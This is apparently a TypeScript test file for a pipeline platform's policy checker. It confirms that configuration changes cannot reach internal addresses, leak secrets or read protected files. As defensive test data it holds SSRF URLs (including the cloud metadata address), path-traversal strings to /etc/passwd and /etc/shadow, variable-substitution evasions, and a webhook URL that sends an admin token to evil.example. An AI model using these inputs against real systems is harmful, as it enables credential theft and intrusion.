/* eslint no-template-curly-in-string: off -- Variables of YAML files are written like that. */

import t from 'tap'
import { adminPrincipal } from '../../../runtime/access/principal.ts'
import { Bindings } from '../../../runtime/setup/variables.ts'
import { checkOptionPaths } from '../../../runtime/setup/option-paths.ts'
import { checkPolicy } from '../../../runtime/setup/policy.ts'
import type { Principal } from '../../../runtime/access/principal.ts'
import type { Platform } from '../../../runtime/platform.ts'
import type { FileChange } from '../../../runtime/setup/change-set.ts'

const config = { dataFolder: '/srv/project/data', filesAllow: ['/srv/exports'], connectAllow: ['10.1.0.0/16'] }
const existing = 'input: { http: { url: https://api.example.com/x, headers: { key: "${API_KEY}" } } }\ntopic: trades\n'
const platform = { root: '/srv/project', config, supervisor: { files: { pipelines: new Map([['one', { file: 'pipelines/one.yaml', text: existing }]]) } } } as unknown as Platform
const user: Principal = { ...adminPrincipal(() => true), kind: 'user', user: 'ann' }
const added = (text: string, before?: string): FileChange[] => [{ path: 'pipelines/new.yaml', kind: 'pipeline', before, after: text }]
const says = async (principal: Principal, changes: FileChange[]): Promise<string> => (await checkPolicy(platform, principal, changes)).map(({ file, message }) => `${file}: ${message}`).join('\n')

await t.test('what a change may name', async t => {
  await t.test('item 16: only plugins that the roles allow, also in a step that stays as it is', async t => {
    const limited = { ...user, plugins: new Set(['generate', 'file']) }
    const text = 'input: { generate: {} }\ntopic: trades\noutputs:\n  - topic: other\n  - file: { path: a.ndjson }\n'
    t.match(await says(limited, added(text)), /pipelines\/new\.yaml: ann has no role that allows the plugin "topic"; allowed: file, generate/)
    t.match(await says(limited, added(text, text)), /plugin "topic"/)
    t.equal(await says(user, added(text)), '')
    t.match(await says({ ...limited, kind: 'token', plugins: new Set() }, added('input: generate\ntopic: x\n')), /allowed: none/)
  })

  await t.test('item 31: no address of the own network that nobody allowed; the token of the installation may', async t => {
    const to = (url: string): FileChange[] => added(`topic: trades\noutputs:\n  - http: { url: '${url}' }\n`)
    for (const url of ['http://127.0.0.1:8123/', 'http://0x7f.1/', 'http://[::1]/', 'http://169.254.169.254/', 'https://10.2.0.1/', 'http://localhost:9/']) t.match(await says(user, to(url)), /nobody allowed to connect/, url)
    t.equal(await says(user, to('http://10.1.2.3/')), '')
    t.equal(await says(adminPrincipal(() => true), to('http://127.0.0.1:8123/')), '')
    const [{ after = '' } = {}] = to('http://127.0.0.1:8123/')
    t.equal(await says(user, added(`# more\n${after}`, after)), '', 'what the files say already stays')
    for (const url of ['http://${NOT_SET:127.0.0.1}:8123/', '${NOT_SET:http://127.0.0.1:8123/}', 'http://127.0.0.${NOT_SET:1}/', 'http://${NOT_SET:x@127.0.0.1}/']) t.match(await says(user, to(url)), /variables make is no address.*nobody allowed to connect/, url)
  })

  await t.test('item 31: alerts are told to nobody else', async t => {
    const alerts = (text: string, before = 'rules: []'): FileChange[] => [{ path: 'config/alerts.yaml', kind: 'config', before, after: text }]
    const to = (url: string): string => `rules: []\ndestinations:\n  - name: x\n    webhook: { url: '${url}', secret: s }\n`
    t.match(await says(user, alerts(to('https://evil.example/${TWOLANE_ADMIN_TOKEN}'))), /changed by whoever keeps the files/)
    t.match(await says(user, alerts(to('http://127.0.0.1/'), undefined)), /changed by whoever keeps the files/)
    t.equal(await says(user, alerts(`# more\n${to('http://127.0.0.1/')}`, to('http://127.0.0.1/'))), '')
    t.equal(await says(adminPrincipal(() => true), alerts(to('http://127.0.0.1/'))), '')
  })

  await t.test('item 38: a variable goes to no other host than the files send it to, and none of the platform goes anywhere', async t => {
    const to = (url: string, key: string): FileChange[] => added(`input: { http: { url: '${url}', headers: { key: '${key}' } } }\ntopic: trades\n`)
    t.match(await says(user, to('https://1.1.1.1/', '${API_KEY}')), /API_KEY is not sent to 1\.1\.1\.1/)
    t.match(await says(user, to('https://1.1.1.1/', '${API_KEY:x}')), /API_KEY/)
    t.match(await says(user, to('https://1.1.1.1/', '${TWOLANE_ADMIN_TOKEN}')), /belongs to the platform/)
    t.match(await says(user, to('https://1.1.1.1/?k=${AWS_SECRET_ACCESS_KEY}', 'x')), /belongs to the platform/)
    t.equal(await says(user, to('https://1.1.1.1/', '$${API_KEY} ${NEW_KEY}')), '')
    t.match(await says(user, added('input: { generate: { fields: { a: "${API_KEY}" } } }\ntopic: trades\n')), /API_KEY is not sent to a step without a host/)
    t.match(await says(user, added('input: { generate: {}, rename: { a: "${API_KEY}" } }\ntopic: trades\n')), /API_KEY is not sent to a step without a host/)
    const bindings = new Bindings([{ file: 'a', text: existing }], ['clickhouse: https://user:${CH_PASSWORD}@db'])
    t.same(bindings.problems({ url: 'https://api.example.com/y', token: '${API_KEY}' }), [])
    t.match(bindings.problems({ url: 'https://api.example.com/y', token: '${CH_PASSWORD}' })[0], /belongs to the platform/, 'one of the settings')
  })

  await t.test('item 32: files of the configuration, the state and the machine are out of reach of plugins', async t => {
    const problems = (path: string, kind: 'input' | 'output' = 'input'): string[] => checkOptionPaths({ root: '/srv/project', config }, { kind, plugin: 'file', options: { path } })
    for (const path of ['/etc/passwd', '../secret', 'rows/../../etc/passwd', 'config/platform.yaml', './config/platform.yaml', 'data/control.db', 'data/admin-token', '/srv/project/data/control.db', '/srv/project/.git/config', '.env', 'package.json', '**/*', '*', '{config,rows}/*', 'rows/{..,a}/x', '/srv/exports/../other', '/srv/exportsother/x', 'pipelines/quotes.yaml', 'plugins/inputs/x/index.ts', 'a\0b', '/proc/self/environ', '/', '']) {
      t.not(problems(path).length, 0, JSON.stringify(path))
    }
    for (const path of ['d\\ata/control.d[b]', 'conf\\ig/*.yaml', 'rows\\/../x']) t.not(problems(path).length, 0, path)
    for (const path of ['${NOT_SET:/srv/project/data/admin-token}', '${NOT_SET:data}/control.db', 'rows/${NOT_SET:..}/data/control.db', '${NOT_SET:.}./x']) t.match(await says(user, added(`input: { file: { path: '${path}' } }\ntopic: x\n`)), /a path that its variables make/, path)
    for (const path of ['rows/a.csv', 'rows/**/*.csv.gz', '/srv/exports/2026/a.parquet', 'data/lake/quotes/a.parquet']) t.same(problems(path), [], path)
    for (const path of ['../config/x', '/srv/project/config/x.yaml', 'control.db', 'topics/quotes.db', 'revisions/a', '/etc/cron.d/x']) t.not(problems(path, 'output').length, 0, path)
    for (const path of ['out.ndjson', 'lake', 'files/a/b.csv', '/srv/exports/out.csv']) t.same(problems(path, 'output'), [], path)
    for (const url of ['sqlite:data/control.db', 'sqlite://srv/project/data/control.db', 'sqlite:rows/a?/../../data/control.db', 'sqlite:rows/%2e%2e/x', 'SQLITE:data/control.db']) t.not(checkOptionPaths({ root: '/srv/project', config }, { kind: 'input', plugin: 'sql', options: { url } }).length, 0, url)
    t.same(checkOptionPaths({ root: '/srv/project', config }, { kind: 'input', plugin: 'sql', options: { url: 'sqlite:rows/a.db' } }), [])
    t.same(checkOptionPaths({ root: '/srv/project', config }, { kind: 'output', plugin: 'lake', options: 's3://bucket/lake' }), [])
    t.not(checkOptionPaths({ root: '/srv/project', config }, { kind: 'input', plugin: 'http', options: { ca_file: '/etc/shadow' } }).length, 0)
    t.same(checkOptionPaths({ root: '/srv/project', config }, { kind: 'input', plugin: 'http-server', options: { path: '/rows' } }), [])
  })

  await t.test('the settings of the platform need the right to give rights', async t => {
    const changes: FileChange[] = [{ path: 'config/platform.yaml', kind: 'config', before: undefined, after: 'connect_allow: 127.0.0.1' }]
    await t.rejects(checkPolicy(platform, { ...user, scopes: new Set(['pipelines:write'] as const) }, changes), { code: 'SCOPE_MISSING' })
    t.same(await checkPolicy(platform, user, changes), [])
  })
})
